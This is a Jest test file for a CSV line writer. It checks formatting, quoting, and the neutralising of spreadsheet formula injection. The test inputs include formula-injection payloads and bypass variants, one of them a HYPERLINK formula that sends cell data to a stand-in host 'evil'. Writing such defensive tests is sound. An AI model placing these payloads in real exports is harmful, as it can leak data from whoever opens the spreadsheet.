import { describe, expect, it } from '@jest/globals';
import { csvLine } from './csv.js';

describe('csvLine', () => {
  it('writes numbers, dates and nulls bare, and ends with CR LF', () => {
    const date = new Date('2025-12-31T10:00:00Z');
    expect(csvLine([1, -5, 9_007_199_254_740_993n, true, null, date, 'Lamp'])).toBe(
      '1,-5,9007199254740993,true,,2025-12-31T10:00:00.000Z,Lamp\r\n',
    );
  });

  it('quotes what would end a cell or a line, and doubles quotes', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', ' blank ', 'a;b'])).toBe(
      '"a,b","say ""hi""","two\nlines"," blank ","a;b"\r\n',
    );
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\u200B=1', '＝1', '=HYPERLINK("http://evil/?"&A1,"x")', '\r=1'])(
    'takes the force from a formula: %j',
    (text) => {
      expect(csvLine([text]).replace(/^"/, '')).toMatch(/^'/);
    },
  ); // prettier-ignore

  it('leaves an ordinary text as it is', () => {
    expect(csvLine(['Ä-1', 'x=1', 'a@b', "it's"])).toBe("Ä-1,x=1,a@b,it's\r\n");
  });
});
